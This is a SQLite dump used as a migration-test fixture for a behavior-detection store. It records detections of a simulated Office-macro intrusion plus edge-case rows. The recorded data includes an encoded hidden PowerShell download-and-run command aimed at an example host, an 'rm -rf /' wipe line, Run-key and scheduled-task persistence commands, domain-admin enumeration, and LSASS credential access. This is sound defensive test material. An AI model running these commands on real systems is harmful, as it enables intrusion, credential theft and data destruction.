-- A version-3 store written by the version-3 DetectionStore: the version-2 fixture (v2.sql) migrated by
-- the version-3 code, then one scan of tests/data/samples recorded into it by behaviorblock scan
-- (seven detections, scan 3), dumped by sqlite3 .dump. Migration tests load it into an empty file.
PRAGMA foreign_keys=OFF;
BEGIN TRANSACTION;
CREATE TABLE detections (
    seq              INTEGER NOT NULL PRIMARY KEY AUTOINCREMENT,
    id               TEXT    NOT NULL UNIQUE,
    name             TEXT    NOT NULL,
    platform         INTEGER NOT NULL,
    tactic           INTEGER NOT NULL,
    score            REAL    NOT NULL,
    severity         INTEGER NOT NULL,
    action           INTEGER NOT NULL,
    host             TEXT    NOT NULL,
    process_guid     TEXT,
    process_id       INTEGER,
    image            TEXT,
    command_line     TEXT,
    parent_image     TEXT,
    user_name        TEXT,
    first_seen       TEXT    NOT NULL,
    last_seen        TEXT    NOT NULL,
    source_file      TEXT,
    model_version    TEXT,
    rule_set_version TEXT
);
INSERT INTO detections VALUES(1,'3f2c1b7e-9a4d-4c1e-8f00-5b6a7c8d9e01','Behavior:Win32/Persistence.RunKey!ml',0,3,0.93000000000000004884,3,1,'WS-01','{a1b2c3d4-0000-0000-0000-000000000001}',4242,'C:\Windows\System32\reg.exe','reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d "C:\Users\jürgen\payload.exe"','C:\Windows\System32\cmd.exe','CORP\jürgen','2024-05-01T10:00:00.1234567Z','2024-05-01T10:00:05.0000000Z','logs/ws01.jsonl','2024.05.1','7');
INSERT INTO detections VALUES(2,'00000000-0000-0000-0000-00000000000a','Behavior:Linux/Generic.A1!rule',0,0,0.0,0,0,'',NULL,NULL,NULL,NULL,NULL,NULL,'0001-01-01T00:00:00.0000000Z','0001-01-01T00:00:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(3,'00000000-0000-0000-0000-00000000000b','Behavior:Linux/Impact.Wipe!ml',1,40,0.33333333333333331482,4,2,'','',0,'',replace('rm -rf / --no-preserve-root\n	''"','\n',char(10)),'','','0001-01-01T00:00:00.0000000Z','2024-06-02T09:30:00.9999999Z','','','');
INSERT INTO detections VALUES(4,'ffffffff-ffff-ffff-ffff-ffffffffffff','Behavior:Win32/CommandAndControl.Beacon!rule',0,11,0.0,0,3,'ws-02.example.local',NULL,-1,NULL,NULL,NULL,NULL,'2024-06-02T08:30:00.0000000Z','2024-06-02T09:30:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(5,'00000000-0000-0000-0001-000000000000','Behavior:Win32/Generic.Code!rule',0,0,0.0,0,0,'host-0',NULL,0,NULL,NULL,NULL,NULL,'2024-06-02T09:30:00.0000000Z','2024-06-02T09:31:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(6,'00000000-0000-0000-0001-000000000001','Behavior:Win32/InitialAccess.Code!rule',1,1,0.076923076923076927347,1,1,'host-1',NULL,1,NULL,NULL,NULL,NULL,'2024-06-02T09:31:00.0000000Z','2024-06-02T09:32:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(7,'00000000-0000-0000-0001-000000000002','Behavior:Win32/Execution.Code!rule',0,2,0.15384615384615385469,2,2,'host-2',NULL,2,NULL,NULL,NULL,NULL,'2024-06-02T09:32:00.0000000Z','2024-06-02T09:33:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(8,'00000000-0000-0000-0001-000000000003','Behavior:Win32/Persistence.Code!rule',1,3,0.23076923076923078204,3,3,'host-3',NULL,3,NULL,NULL,NULL,NULL,'2024-06-02T09:33:00.0000000Z','2024-06-02T09:34:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(9,'00000000-0000-0000-0001-000000000004','Behavior:Win32/PrivilegeEscalation.Code!rule',0,4,0.30769230769230770938,4,0,'host-4',NULL,4,NULL,NULL,NULL,NULL,'2024-06-02T09:34:00.0000000Z','2024-06-02T09:35:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(10,'00000000-0000-0000-0001-000000000005','Behavior:Win32/DefenseEvasion.Code!rule',1,5,0.38461538461538463673,0,1,'host-5',NULL,5,NULL,NULL,NULL,NULL,'2024-06-02T09:35:00.0000000Z','2024-06-02T09:36:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(11,'00000000-0000-0000-0001-000000000006','Behavior:Win32/CredentialAccess.Code!rule',0,6,0.46153846153846156408,1,2,'host-6',NULL,6,NULL,NULL,NULL,NULL,'2024-06-02T09:36:00.0000000Z','2024-06-02T09:37:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(12,'00000000-0000-0000-0001-000000000007','Behavior:Win32/Discovery.Code!rule',1,7,0.53846153846153843591,2,3,'host-7',NULL,7,NULL,NULL,NULL,NULL,'2024-06-02T09:37:00.0000000Z','2024-06-02T09:38:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(13,'00000000-0000-0000-0001-000000000008','Behavior:Win32/LateralMovement.Code!rule',0,8,0.61538461538461541877,3,0,'host-8',NULL,8,NULL,NULL,NULL,NULL,'2024-06-02T09:38:00.0000000Z','2024-06-02T09:39:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(14,'00000000-0000-0000-0001-000000000009','Behavior:Win32/Collection.Code!rule',1,9,0.69230769230769229061,4,1,'host-9',NULL,9,NULL,NULL,NULL,NULL,'2024-06-02T09:39:00.0000000Z','2024-06-02T09:40:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(15,'00000000-0000-0000-0001-00000000000a','Behavior:Win32/CommandAndControl.Code!rule',0,11,0.76923076923076927347,0,2,'host-10',NULL,10,NULL,NULL,NULL,NULL,'2024-06-02T09:40:00.0000000Z','2024-06-02T09:41:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(16,'00000000-0000-0000-0001-00000000000b','Behavior:Win32/Exfiltration.Code!rule',1,10,0.8461538461538461453,1,3,'host-11',NULL,11,NULL,NULL,NULL,NULL,'2024-06-02T09:41:00.0000000Z','2024-06-02T09:42:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(17,'00000000-0000-0000-0001-00000000000c','Behavior:Win32/Impact.Code!rule',0,40,0.92307692307692312816,2,0,'host-12',NULL,12,NULL,NULL,NULL,NULL,'2024-06-02T09:42:00.0000000Z','2024-06-02T09:43:00.0000000Z',NULL,NULL,NULL);
INSERT INTO detections VALUES(18,'319e48bb-5730-5ef3-a94d-7c8113555ac9','Behavior:Win32/InitialAccess.OfficeChild!ml',0,1,1.0,4,0,'FIN-WS07.contoso.local','{7c1a3b2e-000b-6644-000b-000000001f00}',7044,'C:\Windows\System32\cmd.exe','cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGQAbgAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=','C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE','CONTOSO\m.keller','2025-05-14T09:12:14.0000000Z','2025-05-14T09:12:14.0000000Z','tests/data/samples/intrusion-office-macro.jsonl','1.03cff2fc9764','246-9c8ee51e6d41');
INSERT INTO detections VALUES(19,'45027006-669f-5171-bb36-9f8f2883afb0','Behavior:Win32/Execution.EncodedPs!rule',0,2,0.875,3,0,'FIN-WS07.contoso.local','{7c1a3b2e-000c-6644-000c-000000001f00}',7212,'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe','powershell  -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGQAbgAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=','C:\Windows\System32\cmd.exe','CONTOSO\m.keller','2025-05-14T09:12:14.3000000Z','2025-05-14T09:12:21.0000000Z','tests/data/samples/intrusion-office-macro.jsonl',NULL,'246-9c8ee51e6d41');
INSERT INTO detections VALUES(20,'6f2feb1c-e0b0-54dd-bcd6-6ea049d66350','Behavior:Win32/Execution.PsCradle!rule',0,2,0.75,3,0,'FIN-WS07.contoso.local',NULL,NULL,NULL,NULL,NULL,NULL,'2025-05-14T09:12:15.1000000Z','2025-05-14T09:12:15.1000000Z','tests/data/samples/intrusion-office-macro.jsonl',NULL,'246-9c8ee51e6d41');
INSERT INTO detections VALUES(21,'6edba54d-cad0-5955-89f5-24b042b6c6bb','Behavior:Win32/Persistence.RunKey!rule',0,3,0.93799999999999994493,4,0,'FIN-WS07.contoso.local','{7c1a3b2e-000d-6644-000d-000000001f00}',7580,'C:\Users\m.keller\AppData\Local\Temp\svcupd.exe','"C:\Users\m.keller\AppData\Local\Temp\svcupd.exe" --install','C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe','CONTOSO\m.keller','2025-05-14T09:12:19.5000000Z','2025-05-14T09:12:21.0000000Z','tests/data/samples/intrusion-office-macro.jsonl',NULL,'246-9c8ee51e6d41');
INSERT INTO detections VALUES(22,'73adfc99-100e-52c9-9f95-6c9c81e0f1ef','Behavior:Win32/Persistence.SchTaskEvent!rule',0,3,0.5,2,0,'FIN-WS07.contoso.local',NULL,NULL,NULL,NULL,NULL,'CONTOSO\m.keller','2025-05-14T09:12:21.2000000Z','2025-05-14T09:12:21.2000000Z','tests/data/samples/intrusion-office-macro.jsonl',NULL,'246-9c8ee51e6d41');
INSERT INTO detections VALUES(23,'02d8f1f4-3837-5050-b251-2ce83deaaba0','Behavior:Win32/Discovery.NetAcctEnum!rule',0,7,0.29999999999999998889,1,0,'FIN-WS07.contoso.local','{7c1a3b2e-0010-6644-0010-000000001f00}',7816,'C:\Windows\System32\net.exe','net group "Domain Admins" /domain','C:\Users\m.keller\AppData\Local\Temp\svcupd.exe','CONTOSO\m.keller','2025-05-14T09:12:25.5000000Z','2025-05-14T09:12:25.5000000Z','tests/data/samples/intrusion-office-macro.jsonl',NULL,'246-9c8ee51e6d41');
INSERT INTO detections VALUES(24,'764c9fa6-df4c-59d5-b158-6defb91cf5b3','Behavior:Win32/CredentialAccess.LsassRead!ml',0,6,0.99899999999999999911,4,0,'FIN-WS07.contoso.local','{7c1a3b2e-000d-6644-000d-000000001f00}',7580,'C:\Users\m.keller\AppData\Local\Temp\svcupd.exe','"C:\Users\m.keller\AppData\Local\Temp\svcupd.exe" --install','C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe','CONTOSO\m.keller','2025-05-14T09:12:30.2000000Z','2025-05-14T09:12:30.2000000Z','tests/data/samples/intrusion-office-macro.jsonl','1.03cff2fc9764','246-9c8ee51e6d41');
CREATE TABLE techniques (
    detection_seq INTEGER NOT NULL REFERENCES detections (seq) ON DELETE CASCADE,
    ordinal       INTEGER NOT NULL,
    technique     TEXT    NOT NULL,
    PRIMARY KEY (detection_seq, ordinal)
) WITHOUT ROWID;
INSERT INTO techniques VALUES(1,0,'T1547.001');
INSERT INTO techniques VALUES(1,1,'T1112');
INSERT INTO techniques VALUES(3,0,'');
INSERT INTO techniques VALUES(3,1,'T1485');
INSERT INTO techniques VALUES(3,2,'quote " back\slash é ☃');
INSERT INTO techniques VALUES(4,0,'T1071.001');
INSERT INTO techniques VALUES(5,0,'T1000');
INSERT INTO techniques VALUES(6,0,'T1001');
INSERT INTO techniques VALUES(7,0,'T1002');
INSERT INTO techniques VALUES(8,0,'T1003');
INSERT INTO techniques VALUES(9,0,'T1004');
INSERT INTO techniques VALUES(10,0,'T1005');
INSERT INTO techniques VALUES(11,0,'T1006');
INSERT INTO techniques VALUES(12,0,'T1007');
INSERT INTO techniques VALUES(13,0,'T1008');
INSERT INTO techniques VALUES(14,0,'T1009');
INSERT INTO techniques VALUES(15,0,'T1010');
INSERT INTO techniques VALUES(16,0,'T1011');
INSERT INTO techniques VALUES(17,0,'T1012');
INSERT INTO techniques VALUES(18,0,'T1566.001');
INSERT INTO techniques VALUES(18,1,'T1204.002');
INSERT INTO techniques VALUES(19,0,'T1059.001');
INSERT INTO techniques VALUES(19,1,'T1027');
INSERT INTO techniques VALUES(19,2,'T1053.005');
INSERT INTO techniques VALUES(19,3,'T1053.002');
INSERT INTO techniques VALUES(20,0,'T1059.001');
INSERT INTO techniques VALUES(20,1,'T1105');
INSERT INTO techniques VALUES(21,0,'T1547.001');
INSERT INTO techniques VALUES(21,1,'T1053.005');
INSERT INTO techniques VALUES(22,0,'T1053.005');
INSERT INTO techniques VALUES(23,0,'T1087');
INSERT INTO techniques VALUES(23,1,'T1069');
INSERT INTO techniques VALUES(23,2,'T1201');
INSERT INTO techniques VALUES(24,0,'T1003.001');
CREATE TABLE evidence (
    detection_seq INTEGER NOT NULL REFERENCES detections (seq) ON DELETE CASCADE,
    ordinal       INTEGER NOT NULL,
    kind          TEXT    NOT NULL,
    evidence_id   TEXT    NOT NULL,
    description   TEXT    NOT NULL,
    time          TEXT,
    PRIMARY KEY (detection_seq, ordinal)
) WITHOUT ROWID;
INSERT INTO evidence VALUES(1,0,'rule','persistence_run_key','Run key written','2024-05-01T10:00:01.0000000Z');
INSERT INTO evidence VALUES(1,1,'feature','reg_run_writes','1 Run-key write',NULL);
INSERT INTO evidence VALUES(3,0,'response','kill','',NULL);
INSERT INTO evidence VALUES(3,1,'event','Sysmon/1#7','exec ☃ ["x"]','2024-06-02T09:30:00.0000000Z');
INSERT INTO evidence VALUES(4,0,'indicator','sha256:ab','known beacon','2024-06-02T09:25:00.0000000Z');
INSERT INTO evidence VALUES(18,0,'rule','fdd0406a-e3f8-4af1-a9f7-80f0b42f7a9d','Office application starts a shell or script host [high]','2025-05-14T09:12:14.0000000Z');
INSERT INTO evidence VALUES(18,1,'event','Microsoft-Windows-Sysmon/Operational/1#5007 at line 7','ProcessStart by cmd.exe: cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQB... (matched Office application starts a shell or script host)','2025-05-14T09:12:14.0000000Z');
INSERT INTO evidence VALUES(18,2,'model','1.03cff2fc9764','classifier: InitialAccess 1.000 (benign 0.000)',NULL);
INSERT INTO evidence VALUES(18,3,'feature','rule_score_initial_access','rule_score_initial_access = 0.75 (benign median 0; at the median the probability falls by 0.627)',NULL);
INSERT INTO evidence VALUES(18,4,'feature','first_signal_delay_log_s','first_signal_delay_log_s = 1.569 (benign median -1; at the median the probability falls by 0.015)',NULL);
INSERT INTO evidence VALUES(18,5,'feature','rule_max_level','rule_max_level = 4 (benign median 0; at the median the probability falls by 0.001)',NULL);
INSERT INTO evidence VALUES(19,0,'rule','9dd4fa26-9ac8-490b-89c9-691700641662','PowerShell started with an encoded or hidden command [high]','2025-05-14T09:12:14.3000000Z');
INSERT INTO evidence VALUES(19,1,'rule','cc9f374f-b184-4fd2-9140-c9db72b2d1ad','Scheduled task created with schtasks or at [medium]','2025-05-14T09:12:21.0000000Z');
INSERT INTO evidence VALUES(19,2,'event','Microsoft-Windows-Sysmon/Operational/1#5008 at line 8','ProcessStart by powershell.exe: powershell  -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnA... (matched PowerShell started with an encoded or hidden command)','2025-05-14T09:12:14.3000000Z');
INSERT INTO evidence VALUES(19,3,'event','Microsoft-Windows-Sysmon/Operational/1#5016 at line 16','ProcessStart by schtasks.exe: schtasks /create /sc onlogon /tn "Microsoft\Windows\SvcUpdate" /tr "C:\Users\m.keller\AppData\Local\Temp\svcupd.exe" /f (matched Scheduled task created with schtasks or at)','2025-05-14T09:12:21.0000000Z');
INSERT INTO evidence VALUES(20,0,'rule','26e20f26-6410-4e9c-ad13-b6f14c56e3f4','PowerShell downloads and runs code in memory [high]','2025-05-14T09:12:15.1000000Z');
INSERT INTO evidence VALUES(20,1,'event','Microsoft-Windows-PowerShell/Operational/4104#5009 at line 9','ScriptBlock by -: 3f5a0f5e-2b8e-4f0a-9a51-8f1c7a3d2e10 (matched PowerShell downloads and runs code in memory)','2025-05-14T09:12:15.1000000Z');
INSERT INTO evidence VALUES(21,0,'rule','71e18b4e-1a7e-4938-81e8-8efbd66d96dd','Autostart Run key pointing to a script host or user-writable path [high]','2025-05-14T09:12:19.5000000Z');
INSERT INTO evidence VALUES(21,1,'rule','1f72c68d-3243-466f-8248-64f6c7157dec','Scheduled task created to run a script host or hidden PowerShell [high]','2025-05-14T09:12:21.0000000Z');
INSERT INTO evidence VALUES(21,2,'event','Microsoft-Windows-Sysmon/Operational/13#5015 at line 15','RegistrySet by svcupd.exe: HKU\S-1-5-21-1004336348-1177238915-682003330-1107\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SvcUpdate (matched Autostart Run key pointing to a script host or user-writable path)','2025-05-14T09:12:19.5000000Z');
INSERT INTO evidence VALUES(21,3,'event','Microsoft-Windows-Sysmon/Operational/1#5016 at line 16','ProcessStart by schtasks.exe: schtasks /create /sc onlogon /tn "Microsoft\Windows\SvcUpdate" /tr "C:\Users\m.keller\AppData\Local\Temp\svcupd.exe" /f (matched Scheduled task created to run a script host or hidden PowerShell)','2025-05-14T09:12:21.0000000Z');
INSERT INTO evidence VALUES(22,0,'rule','ff79a12e-8d42-445e-abc3-15f80f1a4c68','Scheduled task registered with an interpreter or user-path action [medium]','2025-05-14T09:12:21.2000000Z');
INSERT INTO evidence VALUES(22,1,'event','Security/4698#5017 at line 17','ScheduledTask by -: \Microsoft\Windows\SvcUpdate (matched Scheduled task registered with an interpreter or user-path action)','2025-05-14T09:12:21.2000000Z');
INSERT INTO evidence VALUES(23,0,'rule','0aa9bcbb-874f-45af-8039-82b25e00fba3','Accounts, groups or password policy enumerated with net.exe [low]','2025-05-14T09:12:25.5000000Z');
INSERT INTO evidence VALUES(23,1,'event','Microsoft-Windows-Sysmon/Operational/1#5021 at line 21','ProcessStart by net.exe: net group "Domain Admins" /domain (matched Accounts, groups or password policy enumerated with net.exe)','2025-05-14T09:12:25.5000000Z');
INSERT INTO evidence VALUES(24,0,'rule','93c0807d-fb77-471f-9948-52fb4e70f843','LSASS opened with memory-read access by an unusual process [high]','2025-05-14T09:12:30.2000000Z');
INSERT INTO evidence VALUES(24,1,'event','Microsoft-Windows-Sysmon/Operational/10#5025 at line 25','ProcessAccess by svcupd.exe: C:\Windows\system32\lsass.exe (matched LSASS opened with memory-read access by an unusual process)','2025-05-14T09:12:30.2000000Z');
INSERT INTO evidence VALUES(24,2,'model','1.03cff2fc9764','classifier: CredentialAccess 0.999 (benign 0.000)',NULL);
INSERT INTO evidence VALUES(24,3,'feature','rule_score_credential_access','rule_score_credential_access = 0.75 (benign median 0; at the median the probability falls by 0.999)',NULL);
INSERT INTO evidence VALUES(24,4,'feature','rule_distinct','rule_distinct = 2.079 (benign median 0; at the median the probability falls by 0.270)',NULL);
INSERT INTO evidence VALUES(24,5,'feature','processes','processes = 2.197 (benign median 0.693; at the median the probability falls by 0.033)',NULL);
INSERT INTO evidence VALUES(24,6,'feature','any_lolbin','any_lolbin = 1 (benign median 0; at the median the probability falls by 0.002)',NULL);
INSERT INTO evidence VALUES(24,7,'feature','depth','depth = 4 (benign median 0; at the median the probability falls by 0.001)',NULL);
CREATE TABLE scans (
    id          INTEGER NOT NULL PRIMARY KEY AUTOINCREMENT,
    started     TEXT    NOT NULL,
    finished    TEXT    NOT NULL,
    files       INTEGER NOT NULL,
    events      INTEGER NOT NULL,
    malformed   INTEGER NOT NULL,
    detections  INTEGER NOT NULL
);
INSERT INTO scans VALUES(1,'2024-06-02T09:30:00.0000000Z','2024-06-02T09:30:12.5000001Z',3,12000,2,4);
INSERT INTO scans VALUES(2,'2024-06-03T09:30:00.0000000Z','2024-06-03T09:30:00.0000000Z',0,0,0,0);
INSERT INTO scans VALUES(3,'2026-12-02T00:01:10.1446401Z','2026-12-02T00:01:10.3165115Z',1,31,0,7);
CREATE TABLE scan_inputs (
    scan_id INTEGER NOT NULL REFERENCES scans (id) ON DELETE CASCADE,
    ordinal INTEGER NOT NULL,
    input   TEXT    NOT NULL,
    PRIMARY KEY (scan_id, ordinal)
) WITHOUT ROWID;
INSERT INTO scan_inputs VALUES(1,0,'C:\logs\ws01.jsonl');
INSERT INTO scan_inputs VALUES(1,1,'logs/dir');
INSERT INTO scan_inputs VALUES(1,2,'jürgen "x".jsonl');
INSERT INTO scan_inputs VALUES(3,0,'tests/data/samples');
DELETE FROM sqlite_sequence;
INSERT INTO sqlite_sequence VALUES('detections',24);
INSERT INTO sqlite_sequence VALUES('scans',3);
CREATE INDEX ix_detections_last_seen ON detections (last_seen, id);
CREATE INDEX ix_detections_first_seen ON detections (first_seen);
CREATE INDEX ix_detections_tactic ON detections (tactic, last_seen, id);
CREATE INDEX ix_detections_host_process_guid ON detections (host COLLATE NOCASE, process_guid);
CREATE INDEX ix_detections_host_process_id ON detections (host COLLATE NOCASE, process_id);
CREATE INDEX ix_detections_process_guid ON detections (process_guid);
COMMIT;
PRAGMA user_version = 3;
